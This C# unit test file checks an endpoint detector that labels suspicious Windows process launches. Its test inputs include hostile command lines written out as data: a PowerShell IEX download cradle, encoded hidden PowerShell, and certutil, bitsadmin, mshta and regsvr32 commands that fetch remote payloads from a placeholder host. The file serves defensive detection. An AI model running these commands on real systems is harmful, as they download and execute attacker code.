using Mamori.Sensor.Detection;
using Mamori.Sensor.Detection.AbnormalProcess;

namespace Mamori.Sensor.Tests.Detection.AbnormalProcess;

public class AbnormalProcessDetectorTests
{
    [Theory]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "powershell -nop -w hidden", "office_spawns_shell")]
    [InlineData(@"C:\Windows\System32\cmd.exe", @"C:\Program Files\Google\Chrome\Application\chrome.exe", "cmd /c whoami", "office_spawns_shell")]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Windows\explorer.exe", "powershell.exe -NoP -EncodedCommand SQBFAFgA", "encoded_powershell")]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Windows\explorer.exe", "powershell -e SQBFAFgA", "encoded_powershell")]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Windows\explorer.exe", "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "powershell_download_execute")]
    [InlineData(@"C:\Windows\System32\certutil.exe", @"C:\Windows\System32\cmd.exe", "certutil -urlcache -split -f http://x/a.exe a.exe", "certutil_download")]
    [InlineData(@"C:\Windows\System32\bitsadmin.exe", @"C:\Windows\System32\cmd.exe", "bitsadmin /transfer j http://x/a.exe C:\\a.exe", "bitsadmin_download")]
    [InlineData(@"C:\Windows\System32\mshta.exe", @"C:\Windows\explorer.exe", "mshta http://x/a.hta", "mshta_remote")]
    [InlineData(@"C:\Windows\System32\regsvr32.exe", @"C:\Windows\explorer.exe", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "regsvr32_scriptlet")]
    [InlineData(@"C:\Windows\System32\rundll32.exe", @"C:\Windows\explorer.exe", @"rundll32 C:\Users\taro\AppData\Local\Temp\x.dll,Start", "rundll32_abuse")]
    [InlineData(@"C:\Users\taro\AppData\Local\Temp\invoice.exe", @"C:\Windows\explorer.exe", "invoice.exe", "exec_from_user_folder")]
    [InlineData(@"C:\Users\taro\Downloads\setup.exe", @"C:\Windows\explorer.exe", "setup.exe", "exec_from_user_folder")]
    public void Classify_KnownPatterns(string image, string parent, string command, string rule) =>
        Assert.Equal(rule, AbnormalProcessDetector.Classify(Ev.Process(image, parent, command))?.Rule);

    [Theory]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"C:\Windows\explorer.exe", "powershell -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1")]
    [InlineData(@"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", @"C:\Windows\explorer.exe", "EXCEL.EXE /e")]
    [InlineData(@"C:\Windows\System32\cmd.exe", @"C:\Windows\explorer.exe", "cmd.exe")]
    [InlineData(@"C:\Windows\System32\certutil.exe", @"C:\Windows\System32\cmd.exe", "certutil -hashfile a.iso SHA256")]
    public void Classify_OrdinaryUse_Null(string image, string parent, string command) =>
        Assert.Null(AbnormalProcessDetector.Classify(Ev.Process(image, parent, command)));

    [Fact]
    public void OnEvent_RepeatsAggregate()
    {
        var process = Ev.Process(@"C:\Windows\System32\cmd.exe", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "cmd /c x");
        var alert = Assert.Single(Ev.Run(new AbnormalProcessDetector(100), [process, process with { Timestamp = Ev.T0.AddMinutes(1) }, process with { Timestamp = Ev.T0.AddMinutes(2) }]));
        Assert.Equal(AlertType.AbnormalProcess, alert.Type);
        Assert.Equal(3, alert.Count);
        Assert.Equal("PC01", alert.Src.Name);
        Assert.Contains("winword.exe started cmd.exe", alert.Evidence, StringComparison.Ordinal);
    }
}
